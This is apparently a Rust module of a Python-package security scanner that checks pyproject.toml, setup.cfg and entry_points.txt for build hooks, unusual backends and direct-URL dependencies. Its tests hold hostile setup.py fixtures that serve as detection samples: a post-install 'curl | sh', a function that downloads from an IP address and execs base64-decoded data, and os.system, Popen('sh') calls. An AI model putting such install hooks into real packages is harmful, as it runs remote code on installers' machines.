pub(super) fn entry_points_txt(path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
    if bytes.len() > MAX_MANIFEST_BYTES {
        return;
    }
    let text = String::from_utf8_lossy(bytes);
    let entries = ini(&text);
    let commands = ini_scripts(&entries, "console_scripts", "gui_scripts");
    if commands.is_empty() {
        return;
    }
    let line = entries
        .iter()
        .find(|e| e.section == "console_scripts" || e.section == "gui_scripts")
        .map(|e| e.line);
    out.push(at_line(entry_points_finding(path, commands), line));
}

pub(super) fn setup_cfg(path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
    if bytes.len() > MAX_MANIFEST_BYTES {
        return;
    }
    let text = String::from_utf8_lossy(bytes);
    let entries = ini(&text);
    let mut commands = Map::new();
    let mut scripts_line = None;
    for e in &entries {
        match (e.section.as_str(), e.key.as_str()) {
            ("options.entry_points", "console_scripts" | "gui_scripts") => {
                scripts_line.get_or_insert(e.line);
                for l in e.value.lines() {
                    if let Some((n, t)) = l.split_once('=') {
                        commands.insert(n.trim().to_string(), t.trim().into());
                    }
                }
            }
            ("options", "cmdclass") => {
                let mut cmds = Map::new();
                for l in e.value.lines() {
                    if let Some((n, t)) = l.split_once('=') {
                        cmds.insert(n.trim().to_string(), t.trim().into());
                    }
                }
                let names: Vec<String> = cmds.keys().cloned().collect();
                out.push(at_line(
                    Finding::new(
                        "manifest.install-script.build-hook",
                        Category::InstallScript,
                        Severity::High,
                        path,
                        format!(
                            "setup.cfg replaces setuptools commands ({}): their code runs when pip builds from source",
                            clip(&names.join(", "), 200)
                        ),
                    )
                    .with("commands", cmds),
                    Some(e.line),
                ));
            }
            ("options", "install_requires" | "setup_requires") => {
                for (k, l) in e.value.lines().enumerate() {
                    if let Some((name, source)) = direct_reference(l.trim()) {
                        let f = dependency_finding(path, &e.key, &name, l.trim(), &source, false);
                        let line = e.line + k as u32;
                        out.push(at_line(f, Some(line)));
                    }
                }
            }
            _ => {}
        }
    }
    if !commands.is_empty() {
        out.push(at_line(entry_points_finding(path, commands), scripts_line));
    }
}

// ---------------------------------------------------------------------------------------------
// pyproject.toml

/// Build backends in common use: anything else is worth a look.
const KNOWN_BACKENDS: &[&str] = &[
    "setuptools.build_meta",
    "setuptools.build_meta:__legacy__",
    "hatchling.build",
    "flit_core.buildapi",
    "flit.buildapi",
    "poetry.core.masonry.api",
    "poetry.masonry.api",
    "pdm.backend",
    "pdm.pep517.api",
    "maturin",
    "scikit_build_core.build",
    "mesonpy",
    "uv_build",
    "sipbuild.api",
    "pbr.build",
    "whey",
    "enscons.api",
    "py_build_cmake.build",
    "jupyter_packaging.build_api",
    "sphinx_theme_builder",
    "pymsbuild",
];

/// The 1-based line of `key` in `[table]` (or of the header when `key` is `None`).
pub(crate) fn toml_line(text: &str, table: &str, key: Option<&str>) -> Option<u32> {
    let header = format!("[{table}]");
    let mut in_table = table.is_empty();
    let mut header_line = None;
    for (i, l) in text.lines().enumerate() {
        let t = l.trim();
        if t.starts_with('[') {
            let h: String = t
                .split('#')
                .next()
                .unwrap_or(t)
                .chars()
                .filter(|c| !c.is_whitespace() && *c != '"' && *c != '\'')
                .collect();
            in_table = h == header;
            if in_table {
                header_line = Some(i as u32 + 1);
                if key.is_none() {
                    return header_line;
                }
            }
            continue;
        }
        if let (true, Some(k)) = (in_table, key) {
            let bare = t.trim_start_matches(['"', '\'']);
            if let Some(rest) = bare.strip_prefix(k) {
                let rest = rest.trim_start_matches(['"', '\'']).trim_start();
                if rest.starts_with('=') {
                    return Some(i as u32 + 1);
                }
            }
        }
    }
    header_line
}

fn get<'t>(t: &'t toml::Table, path: &[&str]) -> Option<&'t toml::Value> {
    let (first, rest) = path.split_first()?;
    let mut v = t.get(*first)?;
    for k in rest {
        v = v.as_table()?.get(*k)?;
    }
    Some(v)
}

pub(super) fn pyproject(tree: &PackageTree, path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
    let invalid = |why: String| {
        Finding::new(
            "manifest.pyproject.invalid",
            Category::InstallScript,
            Severity::Low,
            path,
            format!("pyproject.toml {why}; its build backend and hooks were not checked"),
        )
    };
    if bytes.len() > MAX_MANIFEST_BYTES {
        out.push(invalid(format!(
            "is {} bytes, over the manifest limit",
            bytes.len()
        )));
        return;
    }
    let Ok(text) = std::str::from_utf8(bytes) else {
        out.push(invalid("is not UTF-8".into()));
        return;
    };
    let doc: toml::Table = match toml::from_str(text) {
        Ok(d) => d,
        Err(e) => {
            let msg = e.to_string();
            let first = msg.lines().next().unwrap_or("").to_string();
            let mut f = invalid("is not valid TOML".into()).with("error", clip(&first, 200));
            if let Some(before) = e.span().and_then(|span| text.get(..span.start)) {
                f.line = Some(before.matches('\n').count() as u32 + 1);
            }
            out.push(f);
            return;
        }
    };
    let dir = parent(path);
    let backend = get(&doc, &["build-system", "build-backend"]).and_then(|v| v.as_str());
    let backend_line = toml_line(text, "build-system", Some("build-backend"));

    // Build backend.
    if let Some(bp) = get(&doc, &["build-system", "backend-path"]) {
        let dirs: Vec<String> = bp
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|v| v.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default();
        let module = backend
            .unwrap_or("")
            .split(':')
            .next()
            .unwrap_or("")
            .replace('.', "/");
        let mut files: Vec<Value> = Vec::new();
        for d in &dirs {
            for cand in [format!("{module}.py"), format!("{module}/__init__.py")] {
                if let Some(p) = super::resolve(dir, &format!("{d}/{cand}")) {
                    if tree.get(&p).is_some() {
                        files.push(p.into());
                    }
                }
            }
        }
        let mut f = Finding::new(
            "manifest.install-script.in-tree-backend",
            Category::InstallScript,
            Severity::High,
            path,
            format!(
                "build backend {} is loaded from the package itself (backend-path): its code runs \
                 when pip builds this package from source",
                clip(backend.unwrap_or("(none)"), 120)
            ),
        )
        .with("backend", backend.unwrap_or(""))
        .with(
            "backend_path",
            dirs.into_iter().map(Value::from).collect::<Vec<_>>(),
        );
        if !files.is_empty() {
            f = f.with("files", files);
        }
        out.push(at_line(
            f,
            toml_line(text, "build-system", Some("backend-path")).or(backend_line),
        ));
    } else if let Some(b) = backend {
        if !KNOWN_BACKENDS.contains(&b.trim()) {
            out.push(at_line(
                Finding::new(
                    "manifest.install-script.build-backend",
                    Category::InstallScript,
                    Severity::Medium,
                    path,
                    format!(
                        "uncommon build backend {}: it runs when pip builds this package from source",
                        clip(b, 120)
                    ),
                )
                .with("backend", b),
                backend_line,
            ));
        }
    }

    // Build hooks that run package code under a well-known backend.
    let backend_name = backend.unwrap_or("setuptools.build_meta");
    let hook = |table: &str, file: String, what: &str| {
        let mut f = Finding::new(
            "manifest.install-script.build-hook",
            Category::InstallScript,
            Severity::High,
            path,
            format!(
                "{what}: {} runs when pip builds this package from source",
                clip(&file, 120)
            ),
        )
        .with("hook", table)
        .with("file", file.as_str());
        if let Some(p) = super::resolve(dir, &file) {
            if tree.get(&p).is_some() {
                f = f.with("path", p);
            }
        }
        at_line(f, toml_line(text, table, None))
    };
    if backend_name.starts_with("hatchling") {
        let mut tables: Vec<(String, &toml::Value)> = Vec::new();
        for p in [
            &["tool", "hatch", "build", "hooks", "custom"][..],
            &["tool", "hatch", "metadata", "hooks", "custom"][..],
        ] {
            if let Some(v) = get(&doc, p) {
                tables.push((p.join("."), v));
            }
        }
        if let Some(targets) =
            get(&doc, &["tool", "hatch", "build", "targets"]).and_then(|t| t.as_table())
        {
            for (name, t) in targets {
                if let Some(v) = t.get("hooks").and_then(|h| h.get("custom")) {
                    tables.push((format!("tool.hatch.build.targets.{name}.hooks.custom"), v));
                }
            }
        }
        for (table, v) in tables {
            let file = v
                .get("path")
                .and_then(|p| p.as_str())
                .unwrap_or("hatch_build.py")
                .to_string();
            out.push(hook(&table, file, "hatch custom build hook"));
        }
    }
    if backend_name.starts_with("poetry") {
        let script = match get(&doc, &["tool", "poetry", "build"]) {
            Some(toml::Value::String(s)) => Some(s.clone()),
            Some(toml::Value::Table(t)) => {
                t.get("script").and_then(|s| s.as_str()).map(str::to_string)
            }
            _ => None,
        };
        if let Some(script) = script {
            let mut f = hook("tool.poetry.build", script, "poetry build script");
            if f.line.is_none() {
                f.line = toml_line(text, "tool.poetry", Some("build"));
            }
            out.push(f);
        }
    }
    if backend_name.starts_with("pdm") {
        let custom = get(&doc, &["tool", "pdm", "build", "custom-hook"]).and_then(|v| v.as_str());
        let file = custom.unwrap_or("pdm_build.py").to_string();
        let exists = super::resolve(dir, &file).is_some_and(|p| tree.get(&p).is_some());
        if custom.is_some() || exists {
            out.push(hook("tool.pdm.build", file, "pdm build hook"));
        }
    }
    if backend_name.starts_with("setuptools") {
        if let Some(t) = get(&doc, &["tool", "setuptools", "cmdclass"]).and_then(|v| v.as_table()) {
            let mut cmds = Map::new();
            for (k, v) in t {
                cmds.insert(k.clone(), v.as_str().unwrap_or("").into());
            }
            let names: Vec<&str> = t.keys().map(String::as_str).collect();
            out.push(at_line(
                Finding::new(
                    "manifest.install-script.build-hook",
                    Category::InstallScript,
                    Severity::High,
                    path,
                    format!(
                        "pyproject.toml replaces setuptools commands ({}): their code runs when pip builds from source",
                        clip(&names.join(", "), 200)
                    ),
                )
                .with("hook", "tool.setuptools.cmdclass")
                .with("commands", cmds),
                toml_line(text, "tool.setuptools.cmdclass", None)
                    .or_else(|| toml_line(text, "tool.setuptools", Some("cmdclass"))),
            ));
        }
    }

    // Requirements that bypass the index.
    let mut reqs: Vec<(String, &str)> = Vec::new();
    let strings = |v: Option<&toml::Value>| -> Vec<String> {
        v.and_then(|v| v.as_array())
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    };
    for r in strings(get(&doc, &["build-system", "requires"])) {
        reqs.push((r, "build-system.requires"));
    }
    for r in strings(get(&doc, &["project", "dependencies"])) {
        reqs.push((r, "project.dependencies"));
    }
    if let Some(extras) =
        get(&doc, &["project", "optional-dependencies"]).and_then(|v| v.as_table())
    {
        for v in extras.values() {
            for r in strings(Some(v)) {
                reqs.push((r, "project.optional-dependencies"));
            }
        }
    }
    for (req, section) in &reqs {
        if let Some((name, source)) = direct_reference(req) {
            let f = dependency_finding(path, section, &name, req, &source, false);
            let line = text
                .lines()
                .position(|l| l.contains(req.as_str()))
                .map(|i| i as u32 + 1);
            out.push(at_line(f, line));
        }
    }
    if let Some(deps) = get(&doc, &["tool", "poetry", "dependencies"]).and_then(|v| v.as_table()) {
        for (name, spec) in deps {
            let Some(t) = spec.as_table() else { continue };
            let source = if let Some(g) = t.get("git").and_then(|g| g.as_str()) {
                let lower = g.to_ascii_lowercase();
                let tls = !(lower.starts_with("http://") || lower.starts_with("git://"));
                let commit = t
                    .get("rev")
                    .and_then(|r| r.as_str())
                    .filter(|r| is_commit(r))
                    .map(str::to_string);
                Some((Source::Git { tls, commit }, g))
            } else if let Some(u) = t.get("url").and_then(|u| u.as_str()) {
                url_source(u).map(|s| (s, u))
            } else {
                t.get("path")
                    .and_then(|p| p.as_str())
                    .map(|p| (Source::Local, p))
            };
            if let Some((source, spec)) = source {
                let f = dependency_finding(
                    path,
                    "tool.poetry.dependencies",
                    name,
                    spec,
                    &source,
                    false,
                );
                out.push(at_line(
                    f,
                    toml_line(text, "tool.poetry.dependencies", Some(name)),
                ));
            }
        }
    }

    // Commands the package installs.
    let mut commands = Map::new();
    let mut scripts_line = None;
    for table in [
        &["project", "scripts"][..],
        &["project", "gui-scripts"][..],
        &["tool", "poetry", "scripts"][..],
    ] {
        if let Some(t) = get(&doc, table).and_then(|v| v.as_table()) {
            scripts_line = scripts_line.or_else(|| toml_line(text, &table.join("."), None));
            for (k, v) in t {
                let target = match v {
                    toml::Value::String(s) => s.clone(),
                    toml::Value::Table(t) => t
                        .get("reference")
                        .or_else(|| t.get("callable"))
                        .and_then(|r| r.as_str())
                        .unwrap_or("")
                        .to_string(),
                    _ => String::new(),
                };
                commands.insert(k.clone(), target.into());
            }
        }
    }
    if !commands.is_empty() {
        out.push(at_line(entry_points_finding(path, commands), scripts_line));
    }
}

#[cfg(test)]
mod tests {
    use super::super::scan_manifests;
    use super::super::tests::{rules, tree};
    use super::*;

    fn scan_setup(src: &str) -> Vec<Finding> {
        scan_manifests(&tree(&[("setup.py", src.as_bytes())]))
    }

    const NORMAL: &str = r#"
import io
import os
import re
from setuptools import setup, find_packages

here = os.path.abspath(os.path.dirname(__file__))

with io.open(os.path.join(here, "README.md"), encoding="utf-8") as f:
    long_description = f.read()

with open(os.path.join(here, "src", "pkg", "__init__.py")) as f:
    version = re.search(r'__version__ = "(.*?)"', f.read()).group(1)

setup(
    name="pkg",
    version=version,
    long_description=long_description,
    long_description_content_type="text/markdown",
    packages=find_packages("src"),
    package_dir={"": "src"},
    install_requires=["requests>=2", "mcp"],
    python_requires=">=3.9",
)
"#;

    #[test]
    fn normal_setup_py_is_silent() {
        let f = scan_setup(NORMAL);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn look_alikes_are_silent() {
        // A method named like a dangerous call, a word in a docstring, a local function that
        // shadows nothing dangerous, `re.compile`, requests used only inside an unused function.
        let f = scan_setup(
            r#"
"""Calls os.system and urllib.request.urlopen, in prose only."""
import re
import requests
from setuptools import setup

PATTERN = re.compile(r"\d+")

class Helper:
    def system(self):
        return 1

def fetch_docs():
    return requests.get("https://example.com")

Helper().system()
setup(name="x")
"#,
        );
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn cmdclass_and_command_classes() {
        let f = scan_setup(
            r#"
import subprocess
from setuptools import setup
from setuptools.command.install import install
from setuptools.command.develop import develop as _develop

class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call(["sh", "-c", "curl https://x.example | sh"])

class PostDevelop(_develop):
    def run(self):
        _develop.run(self)

setup(name="x", cmdclass={"install": PostInstall, "develop": PostDevelop})
"#,
        );
        assert_eq!(
            rules(&f),
            [
                ("manifest.install-script.setup-cmdclass", Severity::High),
                (
                    "manifest.install-script.setup-command-class",
                    Severity::Critical
                ),
                (
                    "manifest.install-script.setup-command-class",
                    Severity::High
                ),
            ]
        );
        assert_eq!(
            f[0].evidence["commands"],
            serde_json::json!({"install": "PostInstall", "develop": "PostDevelop"})
        );
        assert_eq!(f[0].line, Some(16));
        assert_eq!(f[1].line, Some(7));
        assert_eq!(f[1].evidence["registered_as"], "install");
        assert_eq!(
            f[1].evidence["calls"],
            serde_json::json!(["subprocess.call (line 10)"])
        );
        assert_eq!(f[2].evidence["command"], "develop");
    }

    #[test]
    fn cmdclass_through_a_variable_and_a_helper() {
        let f = scan_setup(
            r#"
import versioneer
from setuptools import setup
cmds = versioneer.get_cmdclass()
extra = {}
extra["build_py"] = MyBuild
setup(name="x", cmdclass=extra)
"#,
        );
        assert_eq!(
            rules(&f),
            [("manifest.install-script.setup-cmdclass", Severity::High)]
        );
        assert_eq!(
            f[0].evidence["commands"],
            serde_json::json!({"build_py": "MyBuild"})
        );
        let f = scan_setup(
            "import versioneer\nfrom setuptools import setup\nsetup(cmdclass=versioneer.get_cmdclass())\n",
        );
        assert_eq!(f[0].evidence["cmdclass"], "versioneer.get_cmdclass()");
    }

    #[test]
    fn module_level_side_effects() {
        let f = scan_setup(
            r#"
import os, base64
import urllib.request as ur
from subprocess import check_output
from setuptools import setup

def get_version():
    return check_output(["git", "describe", "--tags"]).decode().strip()

def payload():
    data = ur.urlopen("http://203.0.113.9/p").read()
    exec(base64.b64decode(data))

payload()
os.system("id")
exec(open("pkg/_version.py").read())
getattr(os, "system")("whoami")
__import__("subprocess").Popen(["sh"])
setup(name="x", version=get_version())
"#,
        );
        let got: Vec<(&str, Option<u32>, Option<&str>)> = f
            .iter()
            .map(|f| {
                (
                    f.rule.as_str(),
                    f.line,
                    f.evidence.get("via").and_then(|v| v.as_str()),
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                (
                    "manifest.install-script.setup-git-version",
                    Some(8),
                    Some("get_version")
                ),
                (
                    "manifest.install-script.setup-network",
                    Some(11),
                    Some("payload")
                ),
                (
                    "manifest.install-script.setup-eval",
                    Some(12),
                    Some("payload")
                ),
                (
                    "manifest.install-script.setup-decode",
                    Some(12),
                    Some("payload")
                ),
                ("manifest.install-script.setup-exec", Some(15), None),
                ("manifest.install-script.setup-exec-file", Some(16), None),
                ("manifest.install-script.setup-exec", Some(17), None),
                ("manifest.install-script.setup-exec", Some(18), None),
            ]
        );
        let sev: Vec<Severity> = f.iter().map(|f| f.severity).collect();
        assert_eq!(
            sev,
            [
                Severity::Medium,
                Severity::Critical,
                Severity::Critical,
                Severity::High,
                Severity::Critical,
                Severity::Low,
                Severity::Critical,
                Severity::Critical,
            ]
        );
        assert_eq!(f[5].evidence["file"], "pkg/_version.py");
        assert_eq!(f[6].evidence["call"], "os.system");
        assert_eq!(f[7].evidence["call"], "subprocess.Popen");
    }

    #[test]
    fn exec_of_a_with_opened_file_is_low() {
        let f = scan_setup(
            "from setuptools import setup\nwith open('pkg/version.py') as fh:\n    exec(fh.read())\nsetup()\n",
        );
        assert_eq!(
            rules(&f),
            [("manifest.install-script.setup-exec-file", Severity::Low)]
        );
    }

    #[test]
    fn ext_modules_entry_points_and_requirements() {
        let f = scan_setup(
            r#"
from setuptools import setup, Extension
setup(
    name="x",
    ext_modules=[Extension("x._c", ["x/_c.c"])],
    entry_points={"console_scripts": ["x-mcp = x.server:main"]},
    install_requires=["evil @ http://203.0.113.9/evil.tar.gz", "ok>=1"],
)
"#,
        );
        assert_eq!(
            rules(&f),
            [
                ("manifest.install-script.setup-native-build", Severity::High),
                ("manifest.entry-points.console-scripts", Severity::Info),
                ("manifest.unpinned.dependency-url", Severity::High),
            ]
        );
        assert_eq!(
            f[1].evidence["commands"],
            serde_json::json!({"x-mcp": "x.server:main"})
        );
        assert_eq!(f[2].line, Some(7));
    }

    #[test]
    fn setup_py_that_does_not_parse_or_is_huge_does_not_panic() {
        let f = scan_setup("def (:\n  ((((\n");
        assert!(f.is_empty(), "{f:?}");
        let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
        let _ = scan_setup(&deep);
    }

    #[test]
    fn pyproject_backends_and_hooks() {
        let scan = |t: &str, extra: &[(&str, &[u8])]| {
            let mut files: Vec<(&str, &[u8])> = vec![("pyproject.toml", t.as_bytes())];
            files.extend_from_slice(extra);
            scan_manifests(&tree(&files))
        };
        let f = scan(
            "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n[project]\nname = \"x\"\n[project.scripts]\nx-mcp = \"x:main\"\n",
            &[],
        );
        assert_eq!(
            rules(&f),
            [("manifest.entry-points.console-scripts", Severity::Info)]
        );
        assert_eq!(f[0].line, Some(7));
        let f = scan(
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
            &[("_build/backend.py", b"def build_wheel(*a): pass\n")],
        );
        assert_eq!(
            rules(&f),
            [("manifest.install-script.in-tree-backend", Severity::High)]
        );
        assert_eq!(f[0].line, Some(4));
        assert_eq!(
            f[0].evidence["files"],
            serde_json::json!(["_build/backend.py"])
        );
        let f = scan(
            "[build-system]\nrequires = [\"weird\"]\nbuild-backend = \"weird.api\"\n",
            &[],
        );
        assert_eq!(
            rules(&f),
            [("manifest.install-script.build-backend", Severity::Medium)]
        );
        assert_eq!(f[0].line, Some(3));
        let f = scan(
            "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.hooks.custom]\n",
            &[("hatch_build.py", b"")],
        );
        assert_eq!(
            rules(&f),
            [("manifest.install-script.build-hook", Severity::High)]
        );
        assert_eq!(f[0].evidence["path"], "hatch_build.py");
        assert_eq!(f[0].line, Some(4));
        // The same table under another backend does nothing.
        let f = scan(
            "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n[tool.hatch.build.hooks.custom]\n",
            &[],
        );
        assert!(f.is_empty(), "{f:?}");
        let f = scan(
            "[build-system]\nrequires = [\"setuptools\", \"helper @ git+https://github.com/o/helper@main\"]\nbuild-backend = \"setuptools.build_meta\"\n",
            &[],
        );
        assert_eq!(
            rules(&f),
            [("manifest.unpinned.dependency-url", Severity::Medium)]
        );
        assert_eq!(f[0].line, Some(2));
    }

    #[test]
    fn pyproject_invalid_gives_one_finding() {
        let f = scan_manifests(&tree(&[("pyproject.toml", b"[build-system\nx = ")]));
        assert_eq!(rules(&f), [("manifest.pyproject.invalid", Severity::Low)]);
        assert_eq!(f[0].line, Some(1));
        let deep = format!("a = {}{}", "[".repeat(100_000), "]".repeat(100_000));
        let f = scan_manifests(&tree(&[("pyproject.toml", deep.as_bytes())]));
        assert_eq!(rules(&f), [("manifest.pyproject.invalid", Severity::Low)]);
    }

    #[test]
    fn setup_cfg_and_entry_points_txt() {
        let f = scan_manifests(&tree(&[
            (
                "setup.cfg",
                b"[metadata]\nname = x\n\n[options]\ninstall_requires =\n    ok>=1\n    bad @ https://x.example/bad.zip\ncmdclass =\n    install = x.cmds.Install\n\n[options.entry_points]\nconsole_scripts =\n    x-mcp = x.cli:main\n",
            ),
            (
                "x-1.0.dist-info/entry_points.txt",
                b"[console_scripts]\nx-mcp = x.cli:main\n\n[x.plugins]\na = b\n",
            ),
        ]));
        assert_eq!(
            rules(&f),
            [
                ("manifest.unpinned.dependency-url", Severity::Medium),
                ("manifest.install-script.build-hook", Severity::High),
                ("manifest.entry-points.console-scripts", Severity::Info),
                ("manifest.entry-points.console-scripts", Severity::Info),
            ]
        );
        // sorted tree: setup.cfg < x-1.0.dist-info/...
        assert_eq!(f[0].line, Some(7));
        assert_eq!(
            f[1].evidence["commands"],
            serde_json::json!({"install": "x.cmds.Install"})
        );
        assert_eq!(f[2].line, Some(12));
        assert_eq!(f[3].path, "x-1.0.dist-info/entry_points.txt");
        assert_eq!(f[3].line, Some(2));
        assert_eq!(
            f[3].evidence["commands"],
            serde_json::json!({"x-mcp": "x.cli:main"})
        );
    }

    #[test]
    fn direct_references() {
        assert!(direct_reference("requests>=2").is_none());
        assert!(direct_reference("x ; python_version<'3.9'").is_none());
        assert_eq!(
            direct_reference("x[extra] @ git+https://github.com/o/x@0123456789abcdef"),
            Some((
                "x".into(),
                Source::Git {
                    tls: true,
                    commit: Some("0123456789abcdef".into())
                }
            ))
        );
        assert_eq!(
            direct_reference("x @ git+ssh://git@github.com/o/x.git@v1 ; python_version>'3'"),
            Some((
                "x".into(),
                Source::Git {
                    tls: true,
                    commit: None
                }
            ))
        );
        assert_eq!(
            direct_reference("x @ file:///tmp/x"),
            Some(("x".into(), Source::Local))
        );
    }

    #[test]
    fn nested_setup_py_is_softer() {
        let f = scan_manifests(&tree(&[(
            "vendor/lib/setup.py",
            b"import os\nos.system('make')\n" as &[u8],
        )]));
        assert_eq!(
            rules(&f),
            [("manifest.install-script.setup-exec", Severity::High)]
        );
    }
}
